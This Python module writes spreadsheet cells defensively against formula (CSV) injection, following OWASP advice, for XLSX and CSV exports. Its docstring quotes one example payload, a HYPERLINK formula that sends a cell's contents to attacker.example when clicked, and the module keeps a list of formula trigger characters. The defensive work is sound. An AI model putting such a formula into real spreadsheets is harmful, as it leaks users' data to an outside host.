"""Cells of spreadsheets we hand out: the one way an export or a template writes a cell.

Text typed by a user (a value's source or note, a unit's or a person's name, a decision
number, an audit summary...) must reach a spreadsheet as text, never as something the
spreadsheet runs. openpyxl, given a string that starts with "=", writes a live formula
(``=HYPERLINK("http://attacker.example/?d="&B5,"Nguồn")`` then leaks the sheet when clicked),
and a string such as "#N/A" becomes an error cell. Every XLSX writer in ``ntm`` therefore
writes through `write_cell`, and every CSV writer through `csv_text`; a test
(``ntm/core/tests/test_spreadsheet.py``) fails when code under ``ntm/`` writes a cell any
other way.

The decisions, the OWASP "CSV Injection" advice applied per format:

- XLSX: a string is stored as a string cell (data type "s", an inline string) whatever it
  starts with, so the reader sees exactly what was typed and no spreadsheet evaluates it.
  A text that starts with a formula trigger (``=``, ``+``, ``-``, ``@``, tab, CR, LF) also
  gets the "quote prefix" style, as Excel gives a cell typed as ``'=1+2``: editing the cell
  in Excel keeps it text. Characters an XLSX file cannot hold (control characters other
  than tab, LF and CR) are dropped rather than failing the export; text beyond Excel's
  limit of 32,767 characters per cell is cut, as Excel would. Numbers, booleans, dates and
  times are written as they are (NaN as an empty cell); any other object as its text.
- CSV: there are no cell types, so a text that starts with a trigger is prefixed with an
  apostrophe (``'=1+2``); spreadsheets show the rest as typed. Numbers are left alone.

Our own formulas, if a sheet ever needs one, are written by a separate function that takes
no user text; today no export or template contains a formula.
"""

from __future__ import annotations

import datetime as dt
import decimal
import re
from copy import copy
from typing import Any

#: First characters that make a spreadsheet read a text as a formula (OWASP, plus LF).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
#: Excel's limit of characters in one cell.
CELL_MAX = 32_767
#: What an XLSX (XML 1.0) cell cannot hold: control characters except tab, LF and CR.
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_AS_IS = (bool, int, float, decimal.Decimal, dt.date, dt.time, dt.timedelta)


def write_cell(sheet, row: int, column: int, value: Any, *, style=None):
    """Write `value` into the cell at (row, column) of an openpyxl sheet; returns the cell.

    `style` is a style array (``cell._style`` of a prototype cell) copied onto the cell
    first, so that many cells share a style without styling each attribute one by one.
    """
    cell = sheet.cell(row, column)
    if style is not None:
        cell._style = copy(style)
    if value is None or isinstance(value, _AS_IS):
        cell.value = None if isinstance(value, float) and value != value else value
        return cell
    text = cell_text(value)
    cell.value = text  # openpyxl infers "f" for "=..." and "e" for "#N/A": undone below
    cell.data_type = "s"
    if text.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


def cell_text(value: Any) -> str:
    """The text of a value as an XLSX cell can hold it."""
    text = value if isinstance(value, str) else str(value)
    if _UNWRITABLE.search(text):
        text = _UNWRITABLE.sub("", text)
    return text[:CELL_MAX]


def csv_text(value: Any) -> Any:
    """A CSV field: a text that a spreadsheet would run as a formula, prefixed with "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
